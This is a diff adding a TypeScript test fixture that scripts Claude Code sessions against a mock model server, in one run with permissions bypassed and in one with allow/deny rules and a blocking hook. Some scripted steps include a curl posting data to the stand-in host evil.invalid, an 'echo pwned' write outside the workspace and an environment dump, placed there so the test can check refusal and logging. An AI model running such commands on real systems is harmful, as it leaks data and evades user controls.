@@ -1,0 +1,208 @@
+/** The scripted sessions of Claude Code: what the model asks for, and what must come of it. */
+import fs from 'node:fs';
+import path from 'node:path';
+import { startMessages } from './model/messages.ts';
+import type { Answer, Part, Script } from './model/server.ts';
+import type { Scripted } from './script.ts';
+import type { Agent, Place } from './session.ts';
+
+export const PROMPT = 'Fix add() in app.py, record a todo, then check connectivity. Ω';
+export const FINAL = 'All done: add() fixed, todo recorded, connectivity checked.';
+export const SUBTASK = 'SUBAGENT-TASK: run one echo and report.';
+
+interface Step {
+  readonly parts: readonly Part[];
+  readonly calls: readonly Scripted[];
+}
+
+const call = (id: string, name: string, input: object): Part => ({ type: 'call', id, name, input });
+
+const of = (part: Part & { type: 'call' }, more: Partial<Scripted>): Scripted => ({
+  id: part.id,
+  tool: part.name,
+  outcome: 'success',
+  ...more,
+});
+
+function step(id: string, name: string, input: object, more: Partial<Scripted> = {}): Step {
+  const part = call(id, name, input) as Part & { type: 'call' };
+  return { parts: [part], calls: [of(part, more)] };
+}
+
+/** A shell command; `exitCode` absent: it is refused, and never run. */
+const bash = (id: string, command: string, exitCode?: number, more: Partial<Scripted> = {}): Step =>
+  step(
+    id,
+    'Bash',
+    { command, description: 'Scripted' },
+    {
+      command,
+      outcome: exitCode === 0 ? 'success' : exitCode === undefined ? 'denied' : 'failure',
+      ...(exitCode === undefined ? {} : { exitCode }),
+      ...more,
+    },
+  );
+
+const both = (...steps: readonly Step[]): Step => ({
+  parts: steps.flatMap(({ parts }) => parts),
+  calls: steps.flatMap(({ calls }) => calls),
+});
+
+/** The whole session, with every permission given. */
+export function bypassSteps({ workspace: w, target, dir }: Place): readonly Step[] {
+  return [
+    {
+      parts: [
+        { type: 'thinking', text: 'Let me look around first.' },
+        { type: 'text', text: 'I will look around first.' },
+        ...bash('toolu_01', 'echo hello && ls -la', 0).parts,
+      ],
+      calls: bash('toolu_01', 'echo hello && ls -la', 0, { programs: ['ls'] }).calls,
+    },
+    bash('toolu_02_exit3', 'sh -c "echo out; echo err >&2; exit 3"', 3),
+    bash('toolu_03_big', 'seq 1 20000', 0, { programs: ['seq'] }),
+    step(
+      'toolu_04_write',
+      'Write',
+      {
+        file_path: path.join(w, 'notes/todo.md'),
+        content: '# todo\n- rotate keys\n',
+      },
+      { files: ['notes/todo.md'] },
+    ),
+    step('toolu_05_read', 'Read', { file_path: path.join(w, 'app.py') }),
+    step(
+      'toolu_06_edit',
+      'Edit',
+      {
+        file_path: path.join(w, 'app.py'),
+        old_string: 'return a - b',
+        new_string: 'return a + b',
+      },
+      { files: ['app.py'] },
+    ),
+    bash('toolu_07_shellwrite', 'echo by-shell > via_shell.txt && cat via_shell.txt', 0, {
+      files: ['via_shell.txt'],
+      programs: ['cat'],
+    }),
+    bash('toolu_08_curl', `curl -sS -m 5 ${target}/ping`, 0, { programs: ['curl'] }),
+    bash('toolu_09_evil', 'curl -sS -m 5 -d s=1 http://evil.invalid/exfil', 6, {
+      programs: ['curl'],
+    }),
+    bash('toolu_10_outside', `echo pwned > ${path.join(dir, 'outside/file')}`, 0),
+    both(
+      bash('toolu_11_parallel', 'echo parallel-A; sleep 0.3', 0, { programs: ['sleep'] }),
+      bash('toolu_12_parallel', 'echo parallel-B; sleep 0.3', 0, { programs: ['sleep'] }),
+    ),
+    step('toolu_13_agent', 'Agent', {
+      description: 'Sub check',
+      prompt: SUBTASK,
+      subagent_type: 'general-purpose',
+      run_in_background: false,
+    }),
+    step('toolu_14_mcp', 'mcp__lab__lookup', { key: 'alpha' }, { tool: 'lookup' }),
+    step('toolu_15_unknown', 'NoSuchTool', { a: 1 }, { outcome: 'failure' }),
+    { parts: [{ type: 'text', text: FINAL }], calls: [] },
+  ];
+}
+
+/** What the sub-agent does. */
+export const SUB_CALL: Scripted = {
+  id: 'toolu_sub_01',
+  tool: 'Bash',
+  command: 'echo from-subagent',
+  exitCode: 0,
+  outcome: 'success',
+};
+
+/** A session with rules: what is not allowed is refused, in each of the ways that there are. */
+export function allowSteps({ target }: Place): readonly Step[] {
+  return [
+    bash('toolu_a1_allowed', 'echo hello', 0),
+    bash('toolu_a2_unasked', 'env | sort'),
+    bash('toolu_a3_rule', `curl -sS -m 5 ${target}/ping`),
+    bash('toolu_a4_hook', 'echo evil.invalid'),
+    bash('toolu_a5_redirect', 'echo x > via_shell.txt'),
+    { parts: [{ type: 'text', text: FINAL }], calls: [] },
+  ];
+}
+
+/** Plays the steps: each request gets the one after the results that it carries. */
+export function play(steps: readonly Step[], failFirst?: number): Script {
+  let failed = failFirst === undefined;
+  const before = [0];
+  for (const { calls } of steps) before.push((before.at(-1) ?? 0) + calls.length);
+  return ({ results, text, tools }): Answer => {
+    if (!tools.includes('Bash')) return [{ type: 'text', text: 'side answer' }];
+    if (text.includes('Second turn')) return [{ type: 'text', text: 'Second answer.' }];
+    if (text.includes(SUBTASK) && !text.includes('Fix add()'))
+      return results === 0
+        ? [
+            { type: 'text', text: 'Sub agent at work.' },
+            call(SUB_CALL.id, 'Bash', { command: SUB_CALL.command, description: 'Sub echo' }),
+          ]
+        : [{ type: 'text', text: 'Subagent result: fine.' }];
+    if (!failed) {
+      failed = true;
+      return { status: failFirst ?? 529 };
+    }
+    const at = before.findLastIndex((calls) => calls <= results);
+    return steps[Math.min(at, steps.length - 1)]?.parts ?? [];
+  };
+}
+
+const environment = (place: Place, url: string): Readonly<Record<string, string>> => ({
+  CLAUDE_CONFIG_DIR: path.join(place.dir, 'home/.claude'),
+  IS_SANDBOX: '1',
+  DISABLE_AUTOUPDATER: '1',
+  CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: '1',
+  ANTHROPIC_BASE_URL: url,
+  ANTHROPIC_API_KEY: 'none',
+});
+
+const MCP = path.join(import.meta.dirname, 'mcp.mjs');
+const MCP_CONFIG = JSON.stringify({
+  mcpServers: { lab: { command: process.execPath, args: [MCP] } },
+});
+
+/** A user's own settings; a run must leave them as they are. */
+function userSettings(place: Place, settings: object): string {
+  const file = path.join(place.dir, 'home/.claude/settings.json');
+  fs.mkdirSync(path.dirname(file), { recursive: true });
+  fs.writeFileSync(file, JSON.stringify(settings));
+  return file;
+}
+
+/** All permissions given; then a second prompt in the same conversation. */
+export const bypassing = (command: string): Agent => ({
+  model: (place) => startMessages(play(bypassSteps(place), 529)),
+  configure: (place) => [userSettings(place, { cleanupPeriodDays: 30 })],
+  runs(place, model) {
+    const env = environment(place, model.url);
+    const flags = ['-p', '--dangerously-skip-permissions', '--model', 'claude-sonnet-4-5'];
+    const first = [...flags, '--mcp-config', MCP_CONFIG, '--', PROMPT];
+    const second = ['--continue', ...flags, '--', 'Second turn: summarise.'];
+    return [first, second].map((args) => ({ argv: [command, ...args], env }));
+  },
+});
+
+const DENY =
+  'grep -q evil.invalid && printf \'{"hookSpecificOutput":{"hookEventName":"PreToolUse",' +
+  '"permissionDecision":"deny","permissionDecisionReason":"the host is not allowed"}}\'; exit 0';
+
+/** Rules and a hook of the user's own. */
+export const allowing = (command: string): Agent => ({
+  model: (place) => startMessages(play(allowSteps(place))),
+  configure: (place) => [
+    userSettings(place, {
+      permissions: { allow: ['Bash(echo *)'], deny: ['Bash(curl *)'] },
+      hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: DENY }] }] },
+    }),
+  ],
+  runs: (place, model) => [
+    {
+      argv: [command, '-p', '--model', 'claude-sonnet-4-5', PROMPT],
+      env: environment(place, model.url),
+    },
+  ],
+});
